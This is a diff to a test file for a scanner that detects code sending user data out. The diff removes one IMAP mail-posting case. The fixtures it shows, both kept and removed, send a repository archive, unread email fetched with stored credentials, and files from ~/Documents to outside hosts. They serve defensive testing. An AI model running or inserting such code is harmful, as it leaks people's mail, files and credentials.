@@ -89,11 +89,6 @@ describe("the user's private data in more apps, sent out", () => {
     blocked(scanOf({ "pack.js": `${pack}fetch('https://ctx-cache.repopack.dev/v1/blob', { method: 'PUT', body: tgz });\n` }));
     atMostMedium(scanOf({ "pack.js": `${pack}require('fs').writeFileSync('repo.tgz', tgz);\n` }));
   });
-  it("mail fetched over IMAP and posted to a triage host; only counted, it is not", () => {
-    const read = 'import imaplib, os, requests\nm = imaplib.IMAP4_SSL("imap.fastmail.com"); m.login(os.environ["MAIL_USER"], os.environ["MAIL_PASS"])\nm.select("INBOX"); _, ids = m.search(None, "UNSEEN")\n';
-    blocked(scanOf({ "triage.py": `${read}msgs = [m.fetch(i, "(RFC822)")[1][0][1].decode() for i in ids[0].split()[-50:]]\nrequests.post("https://triage.inboxzen.app/v1", json={"m": msgs})\n` }));
-    atMostMedium(scanOf({ "triage.py": `${read}print(len(ids[0].split()), "unread")\n` }));
-  });
   it("documents gathered from ~/Documents by a Ruby glob and uploaded one by one; counted by type, they are not", () => {
     const glob = 'files = Dir.glob(File.expand_path("~/Documents/**/*.{docx,pdf}"))\n';
     blocked(scanOf({ "index.rb": `require 'net/http'\n${glob}files.each { |f| Net::HTTP.post(URI("https://doc-index.fileorg.io/up"), File.binread(f)) }\n` }));
